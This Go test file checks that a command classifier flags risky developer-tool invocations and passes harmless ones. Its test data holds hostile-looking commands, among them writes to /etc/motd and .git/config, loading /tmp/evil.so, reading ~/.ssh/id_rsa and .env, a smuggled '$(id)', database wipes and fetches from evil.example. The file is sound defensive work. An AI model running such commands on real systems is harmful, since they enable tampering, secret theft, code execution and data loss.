package profiles

import "testing"

// TestValuesThatAreFiles: an option whose value is written, obeyed or shown is no plain text, wherever in the value the file stands.
func TestValuesThatAreFiles(t *testing.T) {
	testAsking(t, `
		docker build --iidfile /etc/motd .
		docker build --iidfile=/etc/motd .
		podman build --iidfile /etc/motd .
		pip install -r r.txt --report /etc/motd
		pip install -r r.txt --report=/etc/motd
		pip freeze -r /home/other/.env
		pip freeze --requirement=/home/other/.env
		uv run --python /tmp/evil pytest
		uv run -p /tmp/evil pytest
		uv sync --python=/tmp/evil
		uv build --python /tmp/evil
		uv venv -p /tmp/evil .venv
		rustc --emit=asm=/etc/motd x.rs
		rustc --emit link,dep-info=/etc/motd x.rs
		rustc --print cfg=/etc/motd x.rs
		rustc --extern a=/tmp/evil.so x.rs
		rustc -L dependency=/tmp/evil x.rs
		rustc --sysroot /tmp/evil x.rs
		golangci-lint run --out-format json:/etc/motd
		golangci-lint run --out-format=tab,checkstyle:/etc/motd
		pylint -f json:/etc/motd a.py
		mocha -O output=/etc/motd
		mocha -u /tmp/evil
		mocha --spec /tmp/evil.js
		vitest --pool /tmp/evil
		vitest --coverage.reporter /tmp/evil
		jest --coverageReporters text,/tmp/evil
		prettier --parser /tmp/evil a.x
		node --localstorage-file=/etc/motd a.js
		pytest --durations-path=/etc/motd
		flake8 --tee --output-file=/etc/motd
		clang-format --style=file:/home/other/.env a.c
		python -m compileall /home/other`)
	testHarmless(t, `
		docker build --iidfile out.id .
		pip install -r r.txt --report report.json
		uv run --python 3.12 pytest
		uv venv --python python3.13 .venv
		rustc --emit=asm,link x.rs
		rustc --emit asm=out.s x.rs
		rustc --print cfg x.rs
		rustc -L target/debug/deps x.rs
		rustc --extern serde=target/libserde.rlib x.rs
		golangci-lint run --out-format json
		golangci-lint run --out-format json:out.json
		mocha -u bdd -R spec
		vitest -u --pool forks --coverage.reporter text
		jest -u --coverageReporters lcov
		prettier --parser typescript a.x
		clang-format -style=Google a.c
		python -m compileall -q src`)
}

// TestLongOptionsAreNoShortOnes: "-l*" stands for "-lm" and not for "--ld-path=…", the program that links.
func TestLongOptionsAreNoShortOnes(t *testing.T) {
	testAsking(t, `
		clang --ld-path=/tmp/evil x.c
		gcc --output=.git/config x.c
		gcc --include-directory=/tmp x.c
		gcc --library=x x.c
		gcc --language=c .env
		gcc --Wl,-Map=.git/config x.c
		gcc --machine=x x.c
		clang -mllvm -load -mllvm /tmp/evil.so x.c
		gcc --for-linker=-Map=.git/config x.c
		ld --library=x a.o`)
	testHarmless(t, `
		gcc --std=c11 -lm -Iinc -DX=1 -oout x.c
		gcc --version
		esbuild --loader:.svg=text a.js`)
}

// TestModulesByName: what go get asks about is no less a stranger's host where nothing is added.
func TestModulesByName(t *testing.T) {
	testExact(t, `
		go mod download evil.example/data@v1 → network; network evil.example (evil.example/data@v1)
		go mod download -json evil.example/data@latest → network; network evil.example (evil.example/data@latest)
		go list -m evil.example/data@latest → reads .; network evil.example (evil.example/data@latest)
		go mod download → network
		go list -m all → reads .`)
}

// TestFilesOfOptions: "@file" stands for the words in it, which errors show.
func TestFilesOfOptions(t *testing.T) {
	testAsking(t, `
		nm @.env
		objdump -d @.env
		readelf -h @.env
		strings @.env
		strip @x
		clang-format @.env
		clang-tidy @.env
		ruff check @.env
		ruff format @x
		pytest @x
		python -m pytest @x
		dotnet build @x.rsp`)
	testHarmless(t, `
		nm -C a.o
		strings a.out
		ruff check src
		pytest tests/test_a.py::test_b`)
}

// TestOptionsBehind: what stands behind "--" or "-args" may be options, too.
func TestOptionsBehind(t *testing.T) {
	testAsking(t, `
		clang-tidy x.c -- -fplugin=/tmp/x.so
		clang-tidy x.c -- -Xclang -load -Xclang /tmp/x.so
		go test ./x -args -test.cpuprofile=.git/config
		go test ./x -args --test.outputdir /etc
		cargo test -- --logfile /etc/motd
		cargo test -- --nocapture --logfile=/etc/motd
		rustfmt --check --print-config default /etc/motd`)
	testHarmless(t, `
		clang-tidy x.c -- -Iinclude -std=c11
		go test ./x -args -test.v -verbose
		cargo test -- --nocapture --test-threads=1`)
}

// TestCodeFromElsewhere: code that a value or the place of a file brings in is not the project's.
func TestCodeFromElsewhere(t *testing.T) {
	testAsking(t, `
		just /tmp/evil/build
		just ../evil/build
		pip install --group /tmp/pyproject.toml:dev
		uv python find /tmp/evil
		uv python pin /tmp/evil
		pytest --confcutdir=/
		tox --installpkg /tmp/x.whl
		nox --extra-pythons /tmp/x
		flask --app /tmp/evil.py run
		cargo build --target /tmp/x.json
		rustc --target /tmp/x.json a.rs
		rustup run /tmp/evil cargo build
		eslint /tmp/evil/a.js
		eslint --stdin --stdin-filename /tmp/evil/a.js
		eslint --parser-options parser:/tmp/x a.js
		prettier --stdin-filepath /tmp/evil/a.js
		stylelint /tmp/evil/a.css
		rubocop /tmp/evil/a.rb
		bun test /tmp/evil.test.ts
		rspec -P /tmp/evil/*_spec.rb
		rails s -c /tmp/x.ru
		rails test /tmp/x_test.rb
		phpcs --report=/tmp/Evil.php
		dotnet ef database update --startup-project /tmp/x
		javac -cp /tmp/evil.jar X.java
		javac -cp lib/a.jar:/tmp/evil.jar X.java
		hugo -t /tmp/x
		actionlint -shellcheck=/tmp/x
		actionlint -shellcheck /tmp/x
		brew info evil/tap/x
		brew deps /tmp/x.rb
		docker build --sbom generator=evil/x .
		meson setup b -Dc_args=-B.`)
	testHarmless(t, `
		just build
		uv python find 3.12
		uv python pin 3.13
		flask --app app:create_app run
		cargo build --target x86_64-unknown-linux-gnu
		eslint src tests
		prettier --check src/a.js
		bun test src
		rspec -P spec/**/*_spec.rb
		javac -cp lib/a.jar:lib/* -d out X.java
		actionlint -color .github/workflows/a.yml
		docker build --sbom=true --provenance mode=max .
		meson setup b -Dc_args=-O2`)
}

// TestGluedOptions: to parsers of JavaScript, -tr/x is -t and -r /x.
func TestGluedOptions(t *testing.T) {
	testAsking(t, `
		mocha -tr/tmp/evil
		mocha -gr/tmp/evil
		jest -tc/tmp/evil.js
		vitest -tc/tmp/evil.js
		prettier -uc/tmp/x
		npm install -wg x`)
	testHarmless(t, `
		jest -w4 -t=login
		jest -it login
		mocha -t 1000 -R spec`)
}

// TestRevisionsThatAreOptions: what is handed on to git, or to a shell, is no plain text.
func TestRevisionsThatAreOptions(t *testing.T) {
	testAsking(t, `
		lint-staged --diff=--output=.git/config
		lint-staged --diff-filter=--output=x
		golangci-lint run --new-from-rev=--output=.git/config
		pre-commit run --from-ref=--output=x --to-ref HEAD
		nx affected --base='$(id)'
		nx affected --base=--output=.git/config
		biome check --since=--output=x
		jest --changedSince=--output=x`)
	testHarmless(t, `
		lint-staged --diff=main...feature
		golangci-lint run --new-from-rev=HEAD~1
		pre-commit run --from-ref origin/main --to-ref HEAD
		nx affected -t test --base=origin/main --head=HEAD`)
}

// TestHiddenWrites: names that templates, debug options and kinds of reports write.
func TestHiddenWrites(t *testing.T) {
	testAsking(t, `
		make clean BUILD=/home/u
		make clean BUILD=../..
		goimports -trace /etc/motd a.go
		terraform providers mirror /home/u/x
		esbuild --entry-names=../../x a.js --outdir=a
		esbuild ../../x=a.js --outdir=o
		bun build --entry-naming=../../x a.js
		deno test --coverage=/etc
		deno run --v8-flags=--logfile=x x.ts
		yarn --mutex file:/etc/motd install
		yarn install --mutex file:/etc/motd
		ssh-keygen -t ed25519-sk -O write-attestation=/etc/motd -f k
		dpkg -x a.deb /home/u
		rspec --deprecation-out /etc/motd
		psalm --report=/etc/motd
		zig build-exe --name ../../x a.zig
		git am --directory=/etc x.patch
		rsync -a --suffix=/../../x a b
		tar xf a.tar -s ,x,.git/config,
		gh run download 1 -n x
		gh release download v1
		gh release download v1 -p '*'`)
	testHarmless(t, `
		make build PKG=./internal/... BUILD=build/debug
		yarn install --mutex network:31997
		esbuild --entry-names=[dir]/[name] a.js --outdir=a
		gh release download v1 -p x
		gh run download 1 -D out`)
}

// TestHiddenReads: files, settings and the environment that a value shows.
func TestHiddenReads(t *testing.T) {
	testAsking(t, `
		kubectl get pods --template=.env
		kubectl version -o go-template-file=.env
		kubectl rollout status x -o jsonpath-file=.env
		docker build --cache-from type=local,src=/home/u .
		esbuild x=/home/u/.ssh/id_rsa --outdir=o
		esbuild --alias:a=/home/u/.ssh/id_rsa a.js
		webpack --entry /home/u/.ssh/id_rsa
		deno compile --include /home/u/.ssh x.ts
		gh pr list --json number --jq env
		gh api repos/a/b --jq $ENV
		pipenv --support
		bundle env
		git var -l
		go build -pgo=/home/u/x .`)
	testHarmless(t, `
		gh pr list --json number --jq '.[].number'
		esbuild --alias:a=./src/a.js a.js`)
}

// TestProgramsInValues: formats that run programs, and consoles that frameworks put into a project.
func TestProgramsInValues(t *testing.T) {
	testAsking(t, `
		tmux ls -F '#(id)'
		tmux list-panes -f '#(id)'
		tmux list-windows -F '#{E:x}'
		git archive --format=x HEAD
		flask shell
		python manage.py shell -c id
		uv run manage.py shell
		php artisan tinker --execute x`)
	testHarmless(t, `
		tmux ls -F '#{session_name}'
		git archive --format=tar.gz HEAD
		python manage.py migrate
		php artisan migrate:status`)
}

// TestEmptiedDatabases: what a database held comes back with no undo.
func TestEmptiedDatabases(t *testing.T) {
	testAsking(t, `
		python manage.py flush --no-input
		uv run manage.py reset_db
		php artisan migrate:fresh --force
		php artisan db:wipe
		prisma migrate reset --force
		prisma db push --accept-data-loss
		prisma db execute --file x.sql
		prisma studio`)
	testHarmless(t, `
		python manage.py makemigrations
		php artisan migrate
		prisma generate
		prisma migrate dev --name x
		prisma db push`)
}

// TestAddressesInNames: a host that a name brings along is asked, whatever the program's own one is.
func TestAddressesInNames(t *testing.T) {
	testAsking(t, `
		docker pull evil.example/x
		docker pull localhost:5000/x
		docker build --cache-from type=registry,ref=evil.example/x .
		docker compose -f https://evil.example/x.git ps
		gh pr list -R evil.example/a/b
		gh pr view https://evil.example/a/b/pull/1
		glab mr view -R https://evil.example/a/b
		deno info https://evil.example/x
		npm view git+https://evil.example/x
		npm diff --diff=git+https://evil.example/x
		pnpm view https://evil.example/x.tgz
		yarn info http://evil.example/x
		buf breaking --against https://evil.example/x.git
		playwright show-trace https://evil.example/x
		git remote show https://evil.example/x
		git remote prune https://evil.example/x
		go build -mod=mod evil.example/x
		go list -mod=mod evil.example/x
		pytest --base-url=https://evil.example`)
	testHarmless(t, `
		docker pull postgres:16
		docker pull docker.io/library/redis
		gh pr view https://github.com/a/b/pull/1
		gh issue list -R a/b
		npm view react@18 version
		buf breaking --against .git#branch=main
		git diff --stat`)
	for _, line := range []string{"docker pull evil.example/x", "gh pr list -R evil.example/a/b", "deno info https://evil.example/x"} {
		for _, e := range commandEffects(t, line) {
			if e.Host == "evil.example" && e.Remote == "" {
				t.Errorf("%s: the project's own hosts are not told from others", line)
			}
		}
	}
}
